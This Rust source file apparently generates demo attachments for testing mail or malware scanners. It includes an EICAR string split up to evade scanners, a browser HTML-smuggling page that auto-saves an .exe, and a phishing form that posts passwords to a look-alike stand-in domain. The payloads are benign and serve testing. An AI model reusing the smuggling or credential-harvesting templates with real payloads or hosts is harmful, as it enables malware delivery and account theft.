//! The attachments of the demo, by name. All are made at run time, so that no scanner on a developer's machine or on the way
//! there finds anything in the tree, and all are the same on every run.

use super::{formats, office};

/// The attachment `name`; none when there is none of this name.
pub(super) fn build(name: &str) -> Option<Vec<u8>> {
    Some(match name {
        "view.png" => formats::picture(),
        "inspection.pdf" => formats::pdf(
            "",
            &[
                "Slewing crane no. 4, called Big Ida",
                "Brakes: in order. Ropes: in order. Limit switches: in order.",
                "Upper bearing: squeaks, since 1931. Leave it.",
            ],
        ),
        "seating.pdf" => formats::pdf("", &["Four rows of ten.", "Row one: mayor, school, cat."]),
        "winch-manual.pdf" => formats::pdf("", &["Manual of the winch", "1. Do not stand under the load."]),
        "speeches.pdf" => formats::pdf(
            "/OpenAction << /S /JavaScript /JS (app.alert\\(\"Please confirm the order of speeches.\"\\);) >>",
            &["Order of speeches", "1. Mayor  2. Anna Weiss  3. Big Ida"],
        ),
        "quotation.docx" => office::document(&["Quotation 2291", "Mooring rope, 6 x 40 m, spliced", "1,140.00"]),
        "order-form.docm" => office::macro_document(&["Enable Content to see the order form."]),
        "statement.doc" => office::old_macro_document("To see this statement, allow the content."),
        "test-file.txt" => test_file(),
        "test-file.zip" => formats::zip(&[
            ("photographs/quay.png", &formats::picture()),
            ("photographs/special.dat", &test_file()),
        ]),
        "test-file-deep.zip" => {
            let inner = formats::zip(&[("today.log", &test_file())]);
            let middle = formats::zip(&[("inner.zip", &inner)]);
            formats::zip(&[("read-me.txt", b"Please unpack everything."), ("middle.zip", &middle)])
        }
        "program.exe" => formats::program(),
        "reminder.js" => b"// A script of the demo: it makes a list of words, says one sentence and ends.\r\n\
              var words = WScript.CreateObject(\"Scripting.Dictionary\");\r\n\
              WScript.Echo(\"This is only a demo.\");\r\n"
            .to_vec(),
        "berth-plan.lnk" => formats::shortcut(".\\berth-plan.pdf"),
        "drawing.html" => smuggling_page().into_bytes(),
        "sign-in.html" => SIGN_IN_PAGE.as_bytes().to_vec(),
        "drawings.iso" => formats::disk_image("SHED7_1931"),
        "payslips.zip" => formats::encrypted_zip("payslips.csv", b"name;hours\r\nBosun;168\r\n", "the usual one"),
        "smime.p7s" => formats::empty_signature(),
        "reversed.bin" => b"Nothing but a name. The name is the trick.\r\n".to_vec(),
        _ => return None,
    })
}

/// The EICAR anti-malware test file (68 bytes, <https://www.eicar.org/download-anti-malware-testfile/>), put together from
/// pieces: whole, it stands nowhere in the tree.
pub(super) fn test_file() -> Vec<u8> {
    const PIECES: [&str; 6] = [
        "X5O!P%@AP[4",
        "\\PZX54(P^)7CC)7}",
        "$EICAR-STANDARD",
        "-ANTIVIRUS-TEST",
        "-FILE!",
        "$H+H*",
    ];
    PIECES.concat().into_bytes()
}

/// A page that builds a file in the browser and saves it: HTML smuggling (MITRE ATT&CK T1027.006). The file is one
/// harmless header of a program that has no code.
fn smuggling_page() -> String {
    use base64::{Engine as _, engine::general_purpose::STANDARD};
    let payload = STANDARD.encode(formats::program());
    format!(
        r#"<!DOCTYPE html>
<html><head><title>Drawing</title></head>
<body><p>Your drawing is being prepared.</p>
<script>
var data = atob("{payload}");
var bytes = new Uint8Array(data.length);
for (var i = 0; i < data.length; i++) {{ bytes[i] = data.charCodeAt(i); }}
var blob = new Blob([bytes], {{ type: "application/octet-stream" }});
if (window.navigator.msSaveOrOpenBlob) {{
  window.navigator.msSaveOrOpenBlob(blob, "drawing.exe");
}} else {{
  var link = document.createElement("a");
  link.href = window.URL.createObjectURL(blob);
  link.download = "drawing.exe";
  document.body.appendChild(link);
  link.click();
}}
</script></body></html>
"#
    )
}

/// A form that asks for a password and would send it to the look-alike domain.
const SIGN_IN_PAGE: &str = r#"<!DOCTYPE html>
<html><head><title>Harbour &amp; Lane</title>
<style>body{font-family:sans-serif;background:#eef}form{width:280px;margin:60px auto;background:#fff;padding:20px}</style></head>
<body><form method="post" action="https://sign-in.harbourlane-mail.example/collect">
<h2>Sign in to read</h2>
<label>Mail address <input name="user" type="email" value="it.ops@harbourlane.example"></label>
<label>Password <input name="pass" type="password" autofocus></label>
<button>Read</button></form></body></html>
"#;
